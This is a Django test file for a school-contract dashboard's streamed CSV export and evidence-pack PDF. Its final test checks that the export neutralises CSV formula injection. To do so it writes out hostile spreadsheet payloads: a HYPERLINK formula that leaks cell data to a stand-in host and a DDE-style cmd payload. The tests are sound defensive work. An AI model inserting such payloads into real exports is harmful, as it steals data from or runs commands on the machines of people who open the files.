"""The dashboard's CSV (same filters as the page, streamed) and the evidence pack PDF."""

import csv
import io
import re
import sys

import pytest
from django.db import connection
from django.template.loader import render_to_string
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from pypdf import PdfReader

from tests.factories import (
    ContractFactory,
    DistrictFactory,
    OrganizationFactory,
    TargetFactory,
    indicator,
    user_with_role,
)
from tests.views.test_pages import IN_AND_OUT_OF_SCOPE_OF_CONTRACT_A
from turnaround.dashboard import evidence
from turnaround.dashboard.views import CSV_COLUMNS
from turnaround.models import Role
from turnaround.roles import viewer_for

from .conftest import AS_OF, indicator_status, performance

CSV_URL = reverse("dashboard:export_csv")


def csv_rows(response):
    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="contracts-')
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def get_as(client, user, url):
    client.force_login(user)
    return client.get(url)


def test_csv_lists_the_contracts_in_scope_with_their_columns(client, world):
    performance(world.contract_a, "at_risk", year=2)
    rows = csv_rows(get_as(client, world.users["district_a"], CSV_URL))
    assert {r["reference"] for r in rows} == {world.contract_a.reference, world.draft_a.reference}
    assert list(rows[0].keys()) == CSV_COLUMNS
    row = next(r for r in rows if r["reference"] == world.contract_a.reference)
    assert row["name"] == world.contract_a.name
    assert row["district"] == world.district_a.name and row["state"] == "IL"
    assert row["lead_partner"] == world.partner_p.name
    assert row["lifecycle_status"] == "active" and row["performance_status"] == "at_risk"
    assert row["phase"] in {"year_1", "year_2", "year_3_plus", "ended"}
    assert row["schools"].split("; ") == sorted(s.name for s in world.contract_a.schools.all())
    assert row["start_date"] == world.contract_a.start_date.isoformat()
    draft = next(r for r in rows if r["reference"] == world.draft_a.reference)
    assert draft["performance_status"] == ""


@pytest.mark.parametrize(
    "user_key, expected",
    [
        ("state_2", {"contract_c"}),
        ("program_q", {"contract_c"}),
        ("field_p", {"contract_a"}),
        ("nobody", set()),
    ],
)
def test_csv_is_scoped_like_the_page(client, world, user_key, expected):
    rows = csv_rows(get_as(client, world.users[user_key], CSV_URL))
    assert {r["reference"] for r in rows} == {getattr(world, key).reference for key in expected}


def test_csv_applies_the_pages_filters_search_and_order(client, world):
    user = world.users["admin"]
    rows = csv_rows(get_as(client, user, f"{CSV_URL}?lifecycle_status=active&sort=name"))
    assert [r["reference"] for r in rows] == [world.contract_a.reference, world.contract_c.reference]
    rows = csv_rows(get_as(client, user, f"{CSV_URL}?q=gamma"))
    assert [r["reference"] for r in rows] == [world.contract_c.reference]


# The columns as clients parse them: new ones are appended, never inserted.
FIRST_COLUMNS = [
    "reference",
    "name",
    "state",
    "district",
    "authority",
    "lead_partner",
    "schools",
    "school_ids",
    "phase",
    "contract_year",
    "lifecycle_status",
    "performance_status",
    "performance_as_of",
    "start_date",
    "end_date",
]


def test_csv_keeps_its_columns_in_order_and_appends_the_performance_basis(client, evidence_world):
    assert CSV_COLUMNS[: len(FIRST_COLUMNS)] == FIRST_COLUMNS
    assert CSV_COLUMNS[len(FIRST_COLUMNS) :] == ["performance_basis"]
    rows = csv_rows(get_as(client, evidence_world.users["district_a"], CSV_URL))
    by_reference = {r["reference"]: r for r in rows}
    row = by_reference[evidence_world.contract_a.reference]
    # at risk on year 2's final attendance and year 3's math: the years, as the API's basis
    assert (row["performance_status"], row["performance_basis"]) == ("at_risk", "2,3")
    assert row["performance_as_of"] == AS_OF.isoformat()
    assert by_reference[evidence_world.draft_a.reference]["performance_basis"] == ""  # not computed


def test_csv_refuses_a_bad_filter_with_a_message(client, world):
    response = get_as(client, world.users["admin"], f"{CSV_URL}?phase=someday")
    assert response.status_code == 400
    assert "phase" in response.content.decode() and "valid choice" in response.content.decode()


def test_csv_requires_login(client, world):
    response = client.get(CSV_URL)
    assert response.status_code == 302


def test_csv_queries_do_not_grow_with_the_number_of_contracts(client, db):
    district, partner = DistrictFactory(), OrganizationFactory()
    client.force_login(user_with_role(Role.DISTRICT_STAFF, district))

    def export():
        with CaptureQueriesContext(connection) as captured:
            rows = csv_rows(client.get(CSV_URL))
        return len(captured), rows

    for _ in range(2):
        ContractFactory(district=district, lead_partner=partner)
    few, rows = export()
    assert len(rows) == 2
    for _ in range(5):
        ContractFactory(district=district, lead_partner=partner)
    many, rows = export()
    assert len(rows) == 7
    assert many == few


@pytest.fixture
def contract_with_evidence(world):
    contract = world.contract_a
    performance(contract, "at_risk", year=1)
    for year, target in [(1, 85.0), (2, 88.0), (3, 90.0)]:
        TargetFactory(
            contract=contract, indicator=indicator("attendance_rate"), contract_year=year, target=target
        )
    TargetFactory(contract=contract, indicator=indicator("discipline_incidents"), contract_year=1, target=30)
    indicator_status(contract, "attendance_rate", "at_risk", year=1, value=83.0)
    indicator_status(contract, "attendance_rate", "off_track", school=world.school_a, year=1, value=78.0)
    return contract


def pdf_of(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith('attachment; filename="evidence-pack-')
    assert response.content.startswith(b"%PDF-")
    return PdfReader(io.BytesIO(response.content))


def test_the_evidence_pack_is_a_pdf_with_the_contracts_evidence(client, world, contract_with_evidence):
    contract = contract_with_evidence
    reader = pdf_of(
        get_as(client, world.users["district_a"], reverse("dashboard:evidence_pack", args=[contract.pk]))
    )
    assert len(reader.pages) >= 2
    text = " ".join(page.extract_text() for page in reader.pages)
    for expected in (
        contract.name,
        contract.reference,
        world.partner_p.name,
        "Indicator charts",
        "Attendance rate",
        "At risk",
        "Responsibilities",
        "Autonomies",
        "to active.",  # the lifecycle history
        world.school_a.name,
    ):
        assert expected in text, expected


def test_the_evidence_pack_draws_a_chart_per_indicator_with_targets(world, contract_with_evidence):
    context = evidence.evidence_context(world.users["district_a"], contract_with_evidence.pk)
    charts = {c["indicator"].code: c for c in context["charts"]}
    assert set(charts) == {"attendance_rate", "discipline_incidents"}
    svg = str(charts["attendance_rate"]["svg"])
    assert svg.startswith("<svg") and svg.count("<polyline") >= 2  # target and value lines
    assert "Year 3" in svg and "Baseline" in svg
    grid = {(row["indicator"].code, row["school"]): row["cells"] for row in context["target_rows"]}
    assert grid[("attendance_rate", None)][:3] == [85.0, 88.0, 90.0]


@pytest.mark.parametrize("user_key, status", IN_AND_OUT_OF_SCOPE_OF_CONTRACT_A)
def test_the_evidence_pack_answers_404_out_of_scope(client, world, user_key, status):
    response = get_as(
        client, world.users[user_key], reverse("dashboard:evidence_pack", args=[world.contract_a.pk])
    )
    assert response.status_code == status
    if status == 200:
        assert response.content.startswith(b"%PDF-")


def test_the_evidence_pack_of_a_contract_without_statuses_says_so(client, world):
    reader = pdf_of(
        get_as(client, world.users["admin"], reverse("dashboard:evidence_pack", args=[world.draft_a.pk]))
    )
    text = " ".join(page.extract_text() for page in reader.pages)
    assert "No statuses computed yet" in text and "No targets set" in text


def test_evidence_pack_queries_do_not_grow_with_targets_statuses_or_schools(world):
    contract = world.contract_a
    user = world.users["district_a"]
    viewer_for(user)  # the role is read once per request, and cached on the user

    def queries_for_context():
        with CaptureQueriesContext(connection) as captured:
            context = evidence.evidence_context(user, contract.pk)
            # everything the template reads
            for key in ("subcontracts", "reviews", "decisions", "status_changes"):
                list(context[key])
            list(context["contract"].schools.all())
        return len(captured)

    TargetFactory(contract=contract, contract_year=1)
    indicator_status(contract, "attendance_rate", "met", year=1)
    few = queries_for_context()
    for year in (2, 3):
        TargetFactory(contract=contract, contract_year=year)
    for code in ("discipline_incidents", "enrolment", "teacher_retention_rate"):
        TargetFactory(contract=contract, indicator=indicator(code), contract_year=1)
        indicator_status(contract, code, "off_track", year=1)
        for school in contract.schools.all():
            indicator_status(contract, code, "at_risk", year=1, school=school)
    assert queries_for_context() == few


def test_without_weasyprint_the_pack_answers_503_with_a_message(client, world, monkeypatch):
    monkeypatch.setitem(sys.modules, "weasyprint", None)  # as if it (or Pango) were not installed
    response = get_as(
        client, world.users["admin"], reverse("dashboard:evidence_pack", args=[world.contract_a.pk])
    )
    assert response.status_code == 503
    assert "Pango" in response.content.decode()
    # and every page still works
    assert get_as(client, world.users["admin"], reverse("home")).status_code == 200


def pack_row(html, **attributes):
    """The cells of the evidence pack's status row with these data attributes."""
    key = " ".join(f'data-{name}="{value}"' for name, value in attributes.items())
    return re.search(rf"<tr {key}>(.*?)</tr>", html, re.S).group(1)


def test_the_evidence_pack_labels_incomplete_rows_earlier_evidence_and_improvement(evidence_world):
    contract = evidence_world.contract_a
    first, _, third = evidence_world.schools_a
    context = evidence.evidence_context(evidence_world.users["district_a"], contract.pk)
    html = render_to_string("dashboard/evidence_pack.html", context)

    summary = re.search(r'<div class="summary">(.*?)<h2>', html, re.S).group(1)
    assert "status-at_risk" in summary and "At risk" in summary
    assert "on the evidence of contract years 2, 3" in summary
    attendance = pack_row(html, indicator="attendance_rate", year=3)
    assert "status-incomplete" in attendance and ">Incomplete<" in attendance
    assert "2 of 3 schools reporting" in attendance
    assert "evidence: year 2, final (at risk)" in attendance
    ela = pack_row(html, indicator="ela_proficiency", year=3)
    assert ">No data<" in ela and "evidence: year 2, final (on track)" in ela
    # A year with complete data is its own evidence, with nothing to add.
    year_2 = pack_row(html, indicator="attendance_rate", year=2)
    assert "evidence:" not in year_2 and "schools reporting" not in year_2
    assert "evidence:" not in pack_row(html, indicator="math_proficiency", year=3)
    # The schools of the current year: by improvement, and the evidence of a school not reporting.
    improved = pack_row(html, indicator="attendance_rate", school=first.pk)
    assert ">On track<" in improved and "by improvement on year 2" in improved
    silent = pack_row(html, indicator="attendance_rate", school=third.pk)
    assert ">No data<" in silent and "evidence: year 2, final (at risk)" in silent
    # The charts' notes say it too.
    notes = re.findall(r'<div class="note">(.*?)</div>\s*</div>', html, re.S)
    assert any("2 of 3 schools reporting" in note for note in notes)


def test_the_evidence_pack_pdf_carries_the_labels(client, evidence_world):
    contract = evidence_world.contract_a
    reader = pdf_of(
        get_as(
            client, evidence_world.users["district_a"], reverse("dashboard:evidence_pack", args=[contract.pk])
        )
    )
    text = " ".join(" ".join(page.extract_text().split()) for page in reader.pages)
    for expected in (
        "Incomplete",
        "2 of 3 schools reporting",
        "evidence: year 2, final (at risk)",
        "by improvement on year 2",
        "on the evidence of contract years 2, 3",
    ):
        assert expected in text, expected


def test_csv_cells_that_start_like_a_formula_are_quoted(client, world):
    """An organization renamed `=HYPERLINK(...)` (or a school, a contract, a reference starting
    with + - @ tab or carriage return) reaches the export as text: a leading single quote keeps a
    spreadsheet from running it (OWASP, CSV injection)."""
    world.partner_p.name = '=HYPERLINK("http://evil.example/?d="&A2,"Click")'
    world.partner_p.save()
    contract = world.contract_a
    contract.name, contract.reference = "+1+cmd|' /C calc'!A0", "@SUM(1+1)"
    contract.save()
    school = contract.schools.order_by("name").first()
    school.name = "\t=1+2"
    school.save()
    world.district_a.name = "-2+3"
    world.district_a.save()
    rows = csv_rows(get_as(client, world.users["state_1"], CSV_URL))
    row = next(r for r in rows if r["reference"] == "'@SUM(1+1)")
    assert row["lead_partner"] == '\'=HYPERLINK("http://evil.example/?d="&A2,"Click")'
    assert row["name"] == "'+1+cmd|' /C calc'!A0"
    assert row["district"] == "'-2+3"
    assert row["schools"].startswith("'\t=1+2; ")
    # Nothing else is touched: plain text, codes and dates are as they were.
    assert row["state"] == "IL" and row["lifecycle_status"] == "active"
    assert row["start_date"] == contract.start_date.isoformat()
    for cell in (c for r in rows for c in r.values()):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
